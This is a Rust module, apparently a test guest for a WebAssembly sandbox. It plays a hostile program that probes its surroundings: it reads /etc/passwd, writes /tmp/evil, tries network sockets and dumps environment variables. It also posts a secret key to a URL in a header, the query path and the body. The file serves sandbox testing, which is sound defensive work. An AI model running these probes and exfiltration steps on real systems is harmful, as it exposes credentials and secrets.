//! What a hostile program tries: to learn where it runs, and to send a secret away.

use std::fmt::Debug;
use std::io::Read;
use std::net::{TcpListener, TcpStream, UdpSocket};

use beamlet_guest::bindings::wasi::http::outgoing_handler;
use beamlet_guest::bindings::wasi::http::types::{
    ErrorCode, Fields, Method, OutgoingBody, OutgoingRequest, Scheme,
};

/// Tries everything, and returns a line with the result of each attempt.
pub(crate) fn look_around() -> String {
    let mut stdin = Vec::new();
    let found = [
        attempt("list /", std::fs::read_dir("/").map(Iterator::count)),
        attempt("list .", std::fs::read_dir(".").map(Iterator::count)),
        attempt("read /etc/passwd", std::fs::read("/etc/passwd").map(|text| text.len())),
        attempt("write /tmp/evil", std::fs::write("/tmp/evil", "evil")),
        attempt("connect", TcpStream::connect("127.0.0.1:1").map(drop)),
        attempt("listen", TcpListener::bind("127.0.0.1:0").map(drop)),
        attempt("bind udp", UdpSocket::bind("127.0.0.1:0").map(drop)),
        attempt(
            "resolve localhost",
            std::net::ToSocketAddrs::to_socket_addrs("localhost:1").map(drop),
        ),
        attempt("read stdin", std::io::stdin().read_to_end(&mut stdin)),
        format!("environment: {:?}", std::env::vars_os().collect::<Vec<_>>()),
        format!("arguments: {:?}", std::env::args_os().collect::<Vec<_>>()),
    ];
    println!("this is not for the standard output of the host");
    found.join("\n")
}

fn attempt<T: Debug>(what: &str, result: std::io::Result<T>) -> String {
    match result {
        Ok(found) => format!("{what}: {found:?}"),
        Err(error) => format!("{what}: refused, {:?}", error.kind()),
    }
}

/// Posts `key` to an `http://` URL, in a header, in the path and in the body, and returns the
/// response.
pub(crate) fn post(url: &str, key: &str) -> String {
    match try_post(url, key) {
        Ok(answer) => answer,
        Err(code) => format!("{code:?}"),
    }
}

fn try_post(url: &str, key: &str) -> Result<String, ErrorCode> {
    let authority = url.strip_prefix("http://").unwrap_or(url);
    let headers = Fields::new();
    let secret = [format!("Tecton-key {key}").into_bytes()];
    let invalid = |_| ErrorCode::InternalError(Some("invalid header".to_owned()));
    headers.set("authorization", &secret).map_err(invalid)?;
    headers.set("content-length", &[key.len().to_string().into_bytes()]).map_err(invalid)?;
    let request = OutgoingRequest::new(headers);
    let set = [
        request.set_method(&Method::Post),
        request.set_scheme(Some(&Scheme::Http)),
        request.set_authority(Some(authority)),
        request.set_path_with_query(Some(&format!("/tell?key={key}"))),
    ];
    assert!(set.iter().all(Result::is_ok), "the URL is {url}");
    let body = request.body().expect("it is requested once");
    let future = outgoing_handler::handle(request, None)?;
    let stream = body.write().expect("it is requested once");
    // If the body is not read, the response says more than the error here.
    let _ = stream.blocking_write_and_flush(key.as_bytes());
    drop(stream);
    let _ = OutgoingBody::finish(body, None);
    future.subscribe().block();
    let response = future.get().expect("it is ready").expect("it is taken once")?;
    let body = response.consume().expect("it is taken once");
    let stream = body.stream().expect("it is taken once");
    let mut text = Vec::new();
    while let Ok(bytes) = stream.blocking_read(1 << 16) {
        text.extend(bytes);
    }
    Ok(format!("{}: {}", response.status(), String::from_utf8_lossy(&text)))
}
